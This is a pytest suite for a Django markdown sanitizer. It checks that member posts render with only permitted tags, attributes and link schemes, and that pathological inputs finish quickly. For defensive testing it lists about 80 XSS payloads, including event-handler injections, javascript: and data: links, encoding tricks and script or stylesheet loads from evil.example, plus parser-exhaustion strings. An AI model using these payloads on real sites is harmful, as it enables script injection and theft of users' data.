"""Members' text: what it may become, and that no text takes long."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError

from network.markdown import ATTRIBUTES, MAX_LENGTH, SCHEMES, TAGS, Clean, checked, render

SCRIPT = "alert(1)"
VECTORS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f"<script/x>{SCRIPT}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src=x/onerror={SCRIPT}>",
    f'"><img src=x onerror={SCRIPT}>',
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    f"<body onload={SCRIPT}>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select onfocus={SCRIPT} autofocus>",
    f"<marquee onstart={SCRIPT}>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<img src=x onerror=alert(1)>**",
    "~~<svg/onload=alert(1)>~~",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "javascript:alert(1)//https://a.example",
    "//evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "[click me](javascript:alert`1`)",
    '[a](javascript:this;alert(1)"")',
    "[](javascript:alert(1))",
]


class Reader(HTMLParser):
    """Reads what a browser would, and keeps tags, attributes and addresses."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.addresses = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]

    handle_startendtag = handle_starttag


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_but_plain_tags_and_decent_links_comes_out(vector):
    found = read(render(checked(f"Før\n\n{vector}\n\nEfter")))
    assert found.tags <= TAGS
    allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "rel")}
    assert found.attributes <= allowed
    for address in found.addresses:
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in SCHEMES, address


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**fed** og *kursiv*", "<p><strong>fed</strong> og <em>kursiv</em></p>"),
        ("- et\n- to", "<ul>\n<li>et</li>\n<li>to</li>\n</ul>"),
        ("> citat", "<blockquote>\n<p>citat</p>\n</blockquote>"),
        (
            "[Byroller](/metoder/byroller/)",
            '<p><a href="/metoder/byroller/" rel="nofollow noopener noreferrer">Byroller</a></p>',
        ),
        ("# Ikke en overskrift", "<p># Ikke en overskrift</p>"),
        ("to\nlinjer", "<p>to<br>\nlinjer</p>"),
    ],
)
def test_what_colleagues_write_looks_as_they_meant_it(text, html):
    assert render(checked(text)).strip() == html


def test_an_address_in_the_text_becomes_a_link():
    assert 'href="https://kl.example/side"' in render(checked("Se https://kl.example/side."))


HOSTILE = [
    "![" * 10_000,
    "[" * MAX_LENGTH,
    "[](" * 6_000,
    "*a_ " * 5_000,
    "**a " * 5_000,
    "`" * MAX_LENGTH,
    "` " * 10_000,
    ">" * MAX_LENGTH,
    "> " * 10_000,
    "- " * 10_000,
    "<" * MAX_LENGTH,
    "<a " * 6_000,
    "&" * MAX_LENGTH,
    "|" * MAX_LENGTH,
    "|a" * 10_000 + "\n" + "|-" * 10_000,
    "\\" * MAX_LENGTH,
    "~~a" * 6_000,
    "http://" * 2_800,
    "a@b." * 5_000,
    "1. " * 6_000,
    "\n" * MAX_LENGTH + "x",
    "x" * MAX_LENGTH,
]
HANG = 20


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_text_makes_the_server_think_for_long(text):
    began = time.monotonic()
    try:
        render(checked(text[:MAX_LENGTH]))
    except ValidationError as fault:
        assert fault.messages[0].endswith(".")
    assert time.monotonic() - began < HANG


@pytest.mark.parametrize("text", ["", "  \n ", "\x00\x01", "x" * (MAX_LENGTH + 1)])
def test_what_is_no_text_is_refused_in_a_sentence(text):
    with pytest.raises(ValidationError) as fault:
        checked(text)
    assert re.search(r"\.$", fault.value.messages[0])


def test_odd_signs_are_taken_out_and_nothing_else():
    assert checked("Æ\x00ø\r\nå\ud800 👩‍🌾") == "Æø\nå 👩‍🌾"


def test_clean_html_is_printed_as_it_is_by_a_template():
    from django.utils.html import conditional_escape

    assert conditional_escape(Clean("<p>x</p>")) == "<p>x</p>"
    assert conditional_escape("<p>x</p>") != "<p>x</p>"
